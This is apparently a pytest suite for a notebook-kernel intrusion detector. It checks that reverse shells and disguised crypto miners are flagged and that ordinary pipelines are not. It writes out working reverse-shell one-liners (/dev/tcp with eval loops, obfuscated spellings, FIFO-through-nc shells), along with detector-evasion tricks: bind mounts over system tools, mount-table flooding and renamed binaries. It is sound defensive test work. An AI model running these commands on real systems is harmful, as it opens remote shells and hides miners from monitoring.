"""Session 20: the sampler-side judging of the system's own programs, attacked by a notebook user
who read the code and runs as root (Colab's kernels do), as real processes sampled by the real
sampler and engine. Everything on loopback.

Found and fixed:
- A shell with no script on a connection was a reverse shell only while its command line read
  `sh`, `sh -i` or `sh -i -l`: `bash --norc -i`, `bash -o vi -i`, `bash -i -l -s`, `bash
  --rcfile F -O extglob -i`, `exec -a
  kworker bash -i`, `busybox sh -i` and `bash <(cat <&3)` (its script another process's output)
  were not (remote-reverse-shell: the shell by its file or its first word, options only however
  spelled, a multi-call binary's shell applet, a script on /dev/fd/N).
- `bash -c 'd=/dev; exec 3<>$d/tcp/HOST/PORT; while read -r -u 3 c; do eval "$c" >&3 2>&3;
  done'` (or `"/dev/t"cp`): the text names no /dev/tcp, so the system shell's script was
  judged on the programs it starts (none). A shell's script is now read with the network
  redirections a variable or quotes spell, as the shell reads them (engine,
  commands.network_redirects); with its descriptors in a variable (`>&$f 2>&$f`), what it
  reads run as commands (`eval "$c"`) is the wiring (remote-reverse-shell).
- A file in /usr/bin named as a text tool (a copy written there, or bind-mounted over the
  system's tac in a mount namespace of its own) was judged on its name only: a miner's options
  on its command line counted for nothing; so was the system's own dash bind-mounted over tac.
  The sampler marks a program file in the system's folders written since the kernel's session
  began (`exe:new`, its inode's ctime) or with a mount on its path (`exe:mounted`), and the
  engine judges it as any other program.
- The classic FIFO reverse shell from a script file (`cat f | sh -i 2>&1 | nc HOST PORT > f`):
  the shell's streams are pipes, nc holds the connection, no command line names a shell served
  to the network. The sampler follows a shell's piped streams through the pipes and FIFOs of
  its kernel's tree (observe/pipes.py): a loop back to its stdin through a process holding a
  connection names that process (`stream_relay`, remote-reverse-shell). Near-misses: `curl |
  sh`, a shell's output shipped by nc or curl, `python train.py | tee log`, a loop of pipes
  through no connection, an agent driving the bash it started.
"""

from __future__ import annotations

import glob
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

from colab_guard.detect.commands import network_redirects
from colab_guard.detect.engine import Engine
from colab_guard.detect.signatures import load_signatures
from colab_guard.observe.processes import ProcessSampler
from colab_guard.observe.model import Snapshot
from tests.harness import wait_until
from tests.test_sampler_spread import SpreadingSampler, many  # noqa: F401
from tests.test_shell_streams import _wait_for, bash_cell_connected, listener  # noqa: F401

RULES = load_signatures()
BUSYBOX = shutil.which("busybox")


@contextmanager
def _group(argv: list[str], **kwargs):
    """A process in a session of its own, its whole group stopped at the end (what it
    started included: a shell's children)."""
    process = subprocess.Popen(argv, start_new_session=True, **kwargs)
    try:
        yield process
    finally:
        try:
            os.killpg(process.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        process.wait()


def _ids(detections) -> set[str]:
    return {d.signature.id for d in detections}


def _tree_detections(root: int, ticks: int = 6) -> set[tuple[str, str]]:
    """(signature, process name) of every detection in ``root``'s tree over a few ticks."""
    sampler, engine, found = ProcessSampler(), Engine(RULES), set()
    for _ in range(ticks):
        snapshot = sampler.sample({"k": root})["k"]
        found |= {(d.signature.id, d.process.name) for d in engine.evaluate(snapshot)}
        time.sleep(0.1)  # the next tick
    return found


# ---------------------------------------------------------------- a shell on a connection

def _shell_on_connection(port: int, argv: list[str], executable: str | None = None) -> list[str]:
    """A Python parent that connects to ``port`` and runs ``argv`` with the socket on its
    stdin, stdout and stderr (what nc -e, socat EXEC: and os.dup2 leave)."""
    return [sys.executable, "-c", (
        "import socket, subprocess\n"
        f"s = socket.create_connection(('127.0.0.1', {port}))\n"
        f"subprocess.run({argv!r}, executable={executable!r}, stdin=s, stdout=s, stderr=s)\n")]


SHELLS_ON_A_CONNECTION = [
    pytest.param(["bash", "--norc", "--noprofile", "-i"], None, id="long-options"),
    pytest.param(["bash", "-o", "vi", "-i"], None, id="set-o-option"),
    pytest.param(["bash", "-i", "-l", "-s"], None, id="three-options"),
    pytest.param(["bash", "--rcfile", "/dev/null", "-O", "extglob", "-i"], None,
                 id="options-with-values"),
    pytest.param(["kworker", "-i"], "/bin/bash", id="exec-a-kworker"),
    pytest.param(["busybox", "sh", "-i"], None, id="busybox-sh",
                 marks=pytest.mark.skipif(BUSYBOX is None, reason="no busybox here")),
]


@pytest.mark.parametrize("argv, executable", SHELLS_ON_A_CONNECTION)
def test_a_shell_with_no_script_on_a_connection_is_a_reverse_shell(listener, argv, executable):
    with _group(_shell_on_connection(listener.port, argv, executable)) as parent:
        listener.accept_one()
        shell, detections = _wait_for(
            ProcessSampler(), parent.pid,
            lambda p: p.ppid == parent.pid and any(s.stream for s in p.sockets))
        assert shell.cmdline == argv
        assert "remote-reverse-shell" in _ids(detections)


def test_a_shell_reading_its_script_from_another_process_on_a_connection_is_a_reverse_shell(
        listener):
    """`bash <(cat <&3) >&3 2>&3`: the script operand is a pipe (/dev/fd/N), fed from the
    connection, and the shell's output goes back on it."""
    script = (f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; "
              "exec bash <(cat <&3) >&3 2>&3")
    with _group(["bash", "-c", script], stdin=subprocess.DEVNULL) as started:
        listener.accept_one()
        shell, detections = _wait_for(
            ProcessSampler(), started.pid,
            lambda p: p.pid == started.pid and p.cmdline[1:2] != ["-c"]
            and any(s.stream for s in p.sockets))
        assert shell.cmdline[1].startswith("/dev/fd/")
        assert "remote-reverse-shell" in _ids(detections)


def test_a_shell_running_a_script_file_with_its_output_on_a_connection_is_left_alone(
        listener, tmp_path):
    """A job that ships its report to the course's collector: bash runs a file, its stdout
    the connection (the near-miss: a script, not a shell served to the network)."""
    report = tmp_path / "report.sh"
    report.write_text("echo report; sleep 30\n")
    with _group(_shell_on_connection(listener.port, ["bash", str(report)])) as parent:
        listener.accept_one()
        shell, detections = _wait_for(
            ProcessSampler(), parent.pid,
            lambda p: p.ppid == parent.pid and p.name == "bash" and p.sockets)
        assert shell.cmdline == ["bash", str(report)] and any(s.stream for s in shell.sockets)
        assert detections == []


def test_the_systems_shell_printing_with_its_output_on_a_connection_is_left_alone(listener):
    """`sh -c 'echo …; sleep 30'` whose output goes to a collector: the engine reads its
    script as no program but `sleep`, and a shell given a script is no shell with none."""
    line = "echo report; sleep 30; echo done"
    with _group(_shell_on_connection(listener.port, ["/bin/sh", "-c", line])) as parent:
        listener.accept_one()
        shell, detections = _wait_for(
            ProcessSampler(), parent.pid,
            lambda p: p.ppid == parent.pid and "-c" in p.cmdline and p.sockets)
        assert any(s.stream for s in shell.sockets) and detections == []


# ---------------------------------------------------------------- /dev/tcp spelled by a variable

SPELLED_DEVICES = [
    pytest.param('d=/dev; exec 3<>$d/tcp/127.0.0.1/{port}; '
                 'while read -r -u 3 c; do eval "$c" >&3 2>&3; done', id="variable"),
    pytest.param('exec 3<>"/dev/t"cp/127.0.0.1/{port}; '
                 'while read -r -u 3 c; do eval "$c" >&3 2>&3; done', id="quotes"),
    pytest.param('d=/dev; exec 3<>$d/tcp/127.0.0.1/{port}; f=3; '
                 'while read -r -u $f c; do eval "$c" >&$f 2>&$f; done', id="fd-in-a-variable"),
]


@pytest.mark.parametrize("template", SPELLED_DEVICES)
def test_a_shell_script_that_spells_dev_tcp_is_a_reverse_shell(listener, template):
    """It reads each command on fd 3 (`read -u 3`: its stdin stays the pipe), runs it with
    its output on the connection; the text names no /dev/tcp."""
    script = template.format(port=listener.port)
    with _group(["bash", "-c", script], stdin=subprocess.PIPE,
                stdout=subprocess.DEVNULL) as bash:
        listener.accept_one()  # greets "hello": the shell runs it (no such command) and waits
        listener.clients[0].settimeout(20)
        assert b"hello" in listener.clients[0].recv(4096)
        shell, detections = _wait_for(
            ProcessSampler(), bash.pid,
            lambda p: p.pid == bash.pid and any(s.status == "ESTABLISHED" for s in p.sockets))
        assert "/dev/tcp" not in " ".join(shell.cmdline)
        assert "remote-reverse-shell" in _ids(detections)


def test_a_health_check_that_spells_dev_tcp_with_a_variable_is_left_alone(listener):
    """A `%%bash`-style health check: it opens the connection on fd 3, asks, reads the first
    line of the answer; no shell is wired to it."""
    script = (f"d=/dev; exec 3<>$d/tcp/127.0.0.1/{listener.port}; "
              'printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; head -1 <&3; sleep 30; :')
    with _group(["bash", "-c", script], stdout=subprocess.PIPE) as bash:
        listener.accept_one()
        assert bash.stdout.readline() == b"hello\n"
        shell, detections = _wait_for(
            ProcessSampler(), bash.pid,
            lambda p: p.pid == bash.pid and any(s.status == "ESTABLISHED" for s in p.sockets))
        assert network_redirects(["bash", *shell.cmdline[1:]])  # read as the rules read it
        assert detections == []


# ---------------------------------------------------------------- a file in the system's folders

MINER_OPTIONS = "--donate-level 1 -o pool.example.org:3333"


def _stand_in(path: Path) -> Path:
    """A copy of the system's dash: no marker of any tool, it sleeps on its `-c` script
    whatever options follow (a miner's stand-in)."""
    shutil.copy(os.path.realpath(shutil.which("dash") or "/bin/sh"), path)
    return path


def _can_bind_mount() -> bool:
    return shutil.which("unshare") is not None and subprocess.run(
        ["unshare", "-m", "--propagation", "private", "true"],
        stderr=subprocess.DEVNULL).returncode == 0


def _dash_copy(tmp_path: Path) -> tuple[str, list[str]]:
    """A miner's stand-in written in the session: a new file, and a mount on its path (and
    its content the system's dash, run as tac)."""
    return str(_stand_in(tmp_path / "kworker")), ["exe:new", "exe:mounted", "exe:shell-copy"]


def _system_dash(tmp_path: Path) -> tuple[str, list[str]]:
    """The distribution's own dash (an old ctime): the mount on its path tells, and its
    content (a shell run as tac)."""
    return os.path.realpath(shutil.which("dash") or "/bin/sh"), ["exe:mounted", "exe:shell-copy"]


@pytest.mark.skipif(not os.path.exists("/usr/bin/tac") or not _can_bind_mount(),
                    reason="needs the system's tac and a mount namespace (root, as Colab's kernels)")
@pytest.mark.parametrize("mounted", [_dash_copy, _system_dash], ids=["new-file", "system-file"])
def test_a_program_mounted_over_a_system_text_tool_is_judged_on_its_arguments(mounted, tmp_path):
    """`mount --bind ./kworker /usr/bin/tac` in a mount namespace of its own: the sampler reads
    /usr/bin/tac, with no marker, named as a text tool, and took its options for data."""
    source, traits = mounted(tmp_path)
    line = (f"mount --bind {source} /usr/bin/tac && "
            f"exec /usr/bin/tac -c 'sleep 30; :' {MINER_OPTIONS}")
    with _group(["bash", "-c", f"unshare -m --propagation private sh -c \"{line}\"; :"],
                stdout=subprocess.DEVNULL) as kernel:
        found, detections = _wait_for(  # its file scanned (the content's trait comes last)
            ProcessSampler(), kernel.pid,
            lambda p: p.exe == "/usr/bin/tac" and "exe:shell-copy" in p.exe_markers)
        assert sorted(found.exe_markers) == sorted(traits)
        assert "mining-miner-command-line" in _ids(detections)


MOUNTS_FIRST = 4200  # past content.MAX_MOUNTS: a mount table read line by line stops short


@pytest.mark.skipif(not os.path.exists("/usr/bin/tac") or not _can_bind_mount(),
                    reason="needs the system's tac and a mount namespace (root, as Colab's kernels)")
def test_a_mount_over_a_system_tool_behind_thousands_of_mounts_is_seen(tmp_path):
    """4,200 mounts first, then the bind mount over /usr/bin/tac: the mount table's lines
    past the first 4,096 were never read, so the mount on tac's path went unseen."""
    source = _stand_in(tmp_path / "kworker")
    stack = tmp_path / "stack"
    stack.mkdir()
    script = (
        "import ctypes, os, sys\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"for _ in range({MOUNTS_FIRST}):\n"
        f"    assert libc.mount(b't', b'{stack}', b'tmpfs', 0, b'size=4k') == 0\n"
        f"assert libc.mount(b'{source}', b'/usr/bin/tac', None, 4096, None) == 0\n"  # MS_BIND
        f"os.execv('/usr/bin/tac', ['/usr/bin/tac', '-c', 'sleep 30; :', *{MINER_OPTIONS.split()!r}])\n")
    with _group(["bash", "-c", f"unshare -m --propagation private {sys.executable} -c \"{script}\"; :"],
                stdout=subprocess.DEVNULL) as kernel:
        found, detections = _wait_for(ProcessSampler(), kernel.pid,
                                      lambda p: p.exe == "/usr/bin/tac")
        assert "exe:mounted" in found.exe_markers
        assert "mining-miner-command-line" in _ids(detections)


@pytest.mark.skipif(not os.path.exists("/usr/bin/tac") or not _can_bind_mount(),
                    reason="needs the system's tac and a mount namespace (root, as Colab's kernels)")
def test_a_mount_over_a_system_tool_detached_after_its_exec_is_seen(tmp_path):
    """The bind mount is lazily unmounted once tac has exec'd through it: the mount table no
    longer lists it, and the program runs from a detached mount, which names no system
    program's path: judged on its whole command line."""
    source = _stand_in(tmp_path / "kworker")
    line = (f"mount --bind {source} /usr/bin/tac && "
            f"{{ /usr/bin/tac -c 'sleep 30; :' {MINER_OPTIONS} & }} && "
            'while [ "$(readlink /proc/$!/exe)" != /usr/bin/tac ]; do :; done && '
            f"umount -l /usr/bin/tac && touch {tmp_path}/detached && wait")
    with _group(["unshare", "-m", "--propagation", "private", "bash", "-c", line],
                stdout=subprocess.DEVNULL) as kernel:
        deadline = time.monotonic() + 20
        while not (tmp_path / "detached").exists():  # the guard's first look comes after
            assert time.monotonic() < deadline and kernel.poll() is None
            time.sleep(0.05)
        found, detections = _wait_for(ProcessSampler(), kernel.pid,
                                      lambda p: p.name == "tac")
        assert found.exe == "/"  # (the detached mount's root: no system program's path)
        assert "mining-miner-command-line" in _ids(detections)


TEXT_TOOL_SLOT = "/usr/bin/nvidia-smi"  # a text tool's name (DATA_ONLY) no file here has


@pytest.mark.skipif(os.path.exists(TEXT_TOOL_SLOT) or not os.access("/usr/bin", os.W_OK),
                    reason="needs /usr/bin writable (root, as Colab's kernels) and no nvidia-smi")
def test_a_program_written_into_a_system_folder_is_judged_on_its_arguments(tmp_path):
    """The kernel writes its miner to /usr/bin/nvidia-smi, then starts it with a miner's
    options: the file was written in the session, no file of the distribution's."""
    miner = _stand_in(tmp_path / "kworker")
    line = (f"cp {miner} {TEXT_TOOL_SLOT} && "
            f"{TEXT_TOOL_SLOT} -c 'sleep 30; :' {MINER_OPTIONS}; :")
    try:
        with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as kernel:
            found, detections = _wait_for(ProcessSampler(), kernel.pid,
                                          lambda p: p.exe == TEXT_TOOL_SLOT)
            assert "exe:new" in found.exe_markers
            assert "mining-miner-command-line" in _ids(detections)
    finally:
        if os.path.exists(TEXT_TOOL_SLOT):
            os.remove(TEXT_TOOL_SLOT)


def _system_library_folder() -> str | None:
    libz = next(iter(glob.glob("/usr/lib/*/libz.so.1") + glob.glob("/lib/*/libz.so.1")), None)
    return os.path.dirname(os.path.realpath(libz)) if libz is not None else None


@pytest.mark.skipif(_system_library_folder() is None
                    or not os.access(_system_library_folder(), os.W_OK),
                    reason="needs libz and its folder writable (root, as Colab's kernels)")
@pytest.mark.xfail(strict=True, reason=(
    "a library's change time after the session began (library:new, tried) would take every "
    "system tool for new once the C library is upgraded in a session (apt-get upgrade, "
    "unattended upgrades on a host): the system's text tools and shells judged on their whole "
    "command lines again; and LD_PRELOAD of the system's own allocator is common (Colab's "
    "tcmalloc), so a preload alone tells nothing"))
def test_a_library_written_into_a_system_folder_and_preloaded_is_judged_on_its_arguments():
    """A library the cell writes to /usr/lib/… and preloads into the system's grep passes for
    the system's (a library from elsewhere does not: tests/test_honest_sampled19.py); it reads
    grep's arguments as it likes. A copy of libz stands in for it."""
    folder = _system_library_folder()
    library = Path(folder) / "libfast-rt20.so"
    shutil.copy(Path(folder) / "libz.so.1", library)
    script = (f"sleep 30 | LD_PRELOAD={library} "
              "grep -e '--donate-level 1 -o pool.example.org:3333'\n")
    try:
        with bash_cell_connected(script) as bash:
            grep, detections = _wait_for(ProcessSampler(), bash.pid,
                                         lambda p: p.name == "grep" and p.sockets
                                         and str(library) in p.libraries)
            assert "mining-miner-options" in _ids(detections)
    finally:
        library.unlink()


def _child_of(pid: int) -> int:
    """The first child of ``pid``, once it has one."""
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        with open(f"/proc/{pid}/task/{pid}/children") as children:
            found = children.read().split()
        if found:
            return int(found[0])
        time.sleep(0.05)  # polling for the child to start
    raise AssertionError(f"{pid} started no child")


@pytest.mark.skipif(os.path.exists(TEXT_TOOL_SLOT) or not os.access("/usr/bin", os.W_OK),
                    reason="needs /usr/bin writable (root, as Colab's kernels) and no nvidia-smi")
def test_a_program_written_before_the_notebook_server_restarted_is_still_new(tmp_path):
    """The user writes the miner to /usr/bin, then kills the notebook server, which is
    started again with a new kernel: the session is the container's, not the server's."""
    shutil.copy(_stand_in(tmp_path / "kworker"), TEXT_TOOL_SLOT)
    try:
        written = os.stat(TEXT_TOOL_SLOT).st_ctime
        # the server starts later than the file's write, by more than a start time's error
        # (the boot time /proc/stat gives is in whole seconds)
        while time.time() < written + 1.5:
            time.sleep(0.05)
        kernel_line = f"{TEXT_TOOL_SLOT} -c 'sleep 30; :' {MINER_OPTIONS}; :"
        with _group(["bash", "-c", f"bash -c \"{kernel_line}\" & wait"],
                    stdout=subprocess.DEVNULL) as server:
            kernel = _child_of(server.pid)
            found, detections = _wait_for(ProcessSampler(), kernel,
                                          lambda p: p.exe == TEXT_TOOL_SLOT)
            assert "exe:new" in found.exe_markers
            assert "mining-miner-command-line" in _ids(detections)
    finally:
        os.remove(TEXT_TOOL_SLOT)


def test_the_systems_own_text_tool_carries_no_new_file_trait():
    """The near-miss: the system's tac, started in the session, is the distribution's file."""
    with _group(["bash", "-c", "sleep 30 | tac -s ,; :"],
                stdout=subprocess.DEVNULL) as kernel:
        found, detections = _wait_for(ProcessSampler(), kernel.pid,
                                      lambda p: p.name == "tac" and p.exe)
        assert found.exe_markers == [] and detections == []


# ---------------------------------------------------------------- honest uses of the same tools

def test_sort_compressing_its_temporary_files_is_left_alone():
    """`sort --compress-program=gzip` on input larger than its buffer: gzip children."""
    line = "(seq 1 300000; sleep 30) | sort -S 64K --compress-program=gzip > /dev/null; :"
    with _group(["bash", "-c", line]) as kernel:
        _wait_for(ProcessSampler(), kernel.pid,
                  lambda p: p.name == "sort" and "--compress-program=gzip" in p.cmdline)
        assert _tree_detections(kernel.pid) == set()


@pytest.mark.skipif(shutil.which("man") is None, reason="no man here")
def test_man_with_cat_as_its_pager_is_left_alone():
    """`man -P cat bash` into a reader that waits: man and its pager blocked on the pipe."""
    line = "man -P cat bash | (sleep 30; cat > /dev/null); :"
    with _group(["bash", "-c", line], stderr=subprocess.DEVNULL) as kernel:
        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.name == "man")
        assert _tree_detections(kernel.pid) == set()


@contextmanager
def _slow_web_server(body: bytes = b"id,loss\n"):
    """A loopback HTTP server that sends its headers and ``body``, then holds the rest back."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(20)
    held: list[socket.socket] = []

    def serve():
        try:
            conn, _ = server.accept()
        except OSError:
            return
        conn.recv(4096)
        conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 100000\r\n\r\n" + body)
        held.append(conn)
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        server.close()
        for conn in held:
            conn.close()


@pytest.mark.skipif(BUSYBOX is None, reason="no busybox here")
def test_busybox_wget_of_a_local_file_is_left_alone(tmp_path):
    with _slow_web_server() as port, \
            _group([BUSYBOX, "wget", "-q", "-O", str(tmp_path / "metrics.csv"),
                    f"http://127.0.0.1:{port}/metrics.csv"]) as wget:
        found, detections = _wait_for(
            ProcessSampler(), wget.pid,
            lambda p: p.pid == wget.pid and any(s.status == "ESTABLISHED" for s in p.sockets))
        assert found.cmdline[:2] == [BUSYBOX, "wget"] and detections == []


def test_awk_over_a_csv_is_left_alone(tmp_path):
    awk = shutil.which("gawk") or shutil.which("mawk") or shutil.which("awk")
    if awk is None:
        pytest.skip("no awk here")
    data = tmp_path / "runs.csv"
    data.write_text("".join(f"run{i},{i / 10}\n" for i in range(1000)))
    line = f"(cat {data}; sleep 30) | {awk} -F, '{{s += $2}} END {{print s}}'; :"
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as kernel:
        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.exe and p.cmdline[:1] == [awk])
        assert _tree_detections(kernel.pid) == set()


# ---------------------------------------------------------------- a shell in a loop of pipes

def _loop_ticks(root: int, ticks: int = 6) -> tuple[set[tuple[str, str, str]], dict[str, str]]:
    """Over a few ticks of ``root``'s tree: (signature, category, command line) of every
    detection, and each process's stream relay at the last tick, by its command line."""
    sampler, engine, found = ProcessSampler(), Engine(RULES), set()
    for _ in range(ticks):
        snapshot = sampler.sample({"k": root})["k"]
        found |= {(d.signature.id, d.signature.category, " ".join(d.process.cmdline))
                  for d in engine.evaluate(snapshot)}
        time.sleep(0.1)  # the next tick
    return found, {" ".join(p.cmdline): p.stream_relay for p in snapshot.processes}


def test_a_fifo_reverse_shell_from_a_script_file_is_recognised(listener, tmp_path):
    """`cat f | sh -i 2>&1 | nc HOST PORT > f` from a script file: sh's output is nc's input,
    nc writes what the connection brings into f, cat feeds f to sh (stream_relay: nc)."""
    fifo, script = tmp_path / "f", tmp_path / "rev.sh"
    script.write_text(f"mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | nc 127.0.0.1 \"$1\" > {fifo}\n")
    with _group(["sh", str(script), str(listener.port)],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as started:
        listener.accept_one()
        _wait_for(ProcessSampler(), started.pid,
                  lambda p: p.name.startswith("nc") and p.sockets)
        found, relays = _loop_ticks(started.pid)
        assert relays["sh -i"].startswith("nc")
        assert ("remote-reverse-shell", "remote-access", "sh -i") in found


def test_a_shell_reading_a_fifo_its_relay_writes_is_recognised(listener, tmp_path):
    """The loop with one process less: `sh -i < f 2>&1 | nc HOST PORT > f` (a FIFO on sh's
    stdin itself, nc's stdout)."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    line = f"sh -i < {fifo} 2>&1 | nc 127.0.0.1 {listener.port} > {fifo}"
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as started:
        listener.accept_one()
        _wait_for(ProcessSampler(), started.pid,
                  lambda p: p.name.startswith("nc") and p.sockets)
        found, relays = _loop_ticks(started.pid)
        assert relays["sh -i"].startswith("nc")
        assert ("remote-reverse-shell", "remote-access", "sh -i") in found


def test_a_parked_shell_whose_loop_closes_later_is_recognised(many, tmp_path):
    """With many processes (quiet ones parked, handed out as they were): the shell waits,
    parked, on its pipes; nc starts later and closes the loop, its server silent (the shell
    does not run again). The shell is visited again and given its relay. (`sleep`: one more
    process, so that the tree counts as many.)"""
    f, g, go = (tmp_path / name for name in ("f", "g", "go"))
    for fifo in (f, g, go):
        os.mkfifo(fifo)
    with socket.create_server(("127.0.0.1", 0)) as silent, \
            _group(["bash", "-c", f"sleep 60 & cat {f} | sh -i 2>&1 | cat > {g} & read _ < {go}; "
                    f"nc 127.0.0.1 {silent.getsockname()[1]} < {g} > {f}"],
                   stdout=subprocess.DEVNULL) as kernel:
        sampler, engine = SpreadingSampler(), Engine(RULES)

        def tick() -> tuple[Snapshot, set[str]]:
            snapshot = sampler.sample({"k": kernel.pid})["k"]
            return snapshot, {" ".join(d.process.cmdline) for d in engine.evaluate(snapshot)
                              if d.signature.id == "remote-reverse-shell"}
        parked = lambda snap: any(p.cmdline == ["sh", "-i"]  # noqa: E731
                                  for p in snap.processes[len(snap.processes) - snap.parked:])
        wait_until(lambda: parked(tick()[0]), timeout=30, what="the shell parked")
        with open(go, "w") as trigger:
            trigger.write("go\n")
        recognised = wait_until(lambda: tick()[1] or None, timeout=20,
                                what="a reverse shell recognised")
        assert "sh -i" in recognised, recognised


# Near-misses: a shell with pipes on its streams beside a connection, and no loop through it.

def test_an_install_script_piped_from_curl_into_sh_is_left_alone():
    """`curl -fsSL URL | sh`: curl holds the connection and feeds sh, sh's output goes to the
    kernel (nothing brings it back to sh). `-N`: curl passes the script on as it comes, while
    it still holds the connection."""
    with _slow_web_server(b"echo installing; sleep 30\n") as port, \
            _group(["bash", "-c", f"curl -fsSLN http://127.0.0.1:{port}/install.sh | sh; :"],
                   stdout=subprocess.DEVNULL) as kernel:
        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.cmdline[:1] == ["sleep"])
        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.name == "curl" and p.sockets)
        found, relays = _loop_ticks(kernel.pid)
        assert relays["sh"] == "" and found == set()


@pytest.mark.parametrize("shipper", [
    pytest.param("nc 127.0.0.1 {port}", id="nc"),
    pytest.param("curl -sT - http://127.0.0.1:{port}/build.log", id="curl-upload"),
])
def test_a_shell_whose_output_is_shipped_to_a_collector_is_left_alone(shipper):
    """`(echo make; …) | sh 2>&1 | nc HOST PORT`: the shell's output is read by a process
    holding a connection, but its input comes from elsewhere (no loop). The collector says
    nothing (its backlog completes the connections: curl waits to send its upload)."""
    with socket.create_server(("127.0.0.1", 0)) as collector, \
            _group(["bash", "-c", f"(echo 'make -v'; sleep 30) | sh 2>&1 | "
                    f"{shipper.format(port=collector.getsockname()[1])}; :"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as kernel:
        _wait_for(ProcessSampler(), kernel.pid,
                  lambda p: p.name in ("nc", "curl") and p.sockets)
        found, relays = _loop_ticks(kernel.pid)
        assert relays["sh"] == "" and found == set()


def test_training_output_teed_to_a_log_is_left_alone(listener, tmp_path):
    """`python train.py 2>&1 | tee log`, the script holding a connection (its data)."""
    train = tmp_path / "train.py"
    train.write_text("import socket, sys, time\n"
                     "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                     "print('epoch 1', flush=True)\n"
                     "time.sleep(30)\n")
    line = f"{sys.executable} {train} {listener.port} 2>&1 | tee {tmp_path / 'log'}; :"
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _wait_for(ProcessSampler(), kernel.pid,
                  lambda p: p.name.startswith("python") and p.sockets)
        found, relays = _loop_ticks(kernel.pid)
        assert set(relays.values()) == {""} and found == set()


def test_a_shell_in_a_loop_of_pipes_holding_no_connection_is_left_alone(listener, tmp_path):
    """`cat f | sh | cat > f` beside a process holding a connection: the loop passes
    through no process that holds one."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    line = (f"cat {fifo} | sh | cat > {fifo} & "
            f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; sleep 30")
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _wait_for(ProcessSampler(), kernel.pid,
                  lambda p: p.name == "sleep" and p.sockets)
        found, relays = _loop_ticks(kernel.pid)
        assert relays["sh"] == "" and found == set()


def test_a_program_driving_a_shell_it_started_is_left_alone(listener):
    """An agent: a Python program holding a connection (its model's API) that writes
    commands to a bash it started and reads its output (a loop, through the shell's parent)."""
    agent = (
        "import socket, subprocess, sys, time\n"
        f"s = socket.create_connection(('127.0.0.1', {listener.port}))\n"
        "bash = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE,\n"
        "                        stderr=subprocess.STDOUT)\n"
        "bash.stdin.write(b'echo ready\\n'); bash.stdin.flush()\n"
        "bash.stdout.readline()\n"
        "time.sleep(30)\n")
    with _group(["bash", "-c", f"{sys.executable} -c \"$0\"; :", agent]) as kernel:
        listener.accept_one()
        _wait_for(ProcessSampler(), kernel.pid,
                  lambda p: p.cmdline == ["bash"])
        found, relays = _loop_ticks(kernel.pid)
        assert relays["bash"] == "" and found == set()
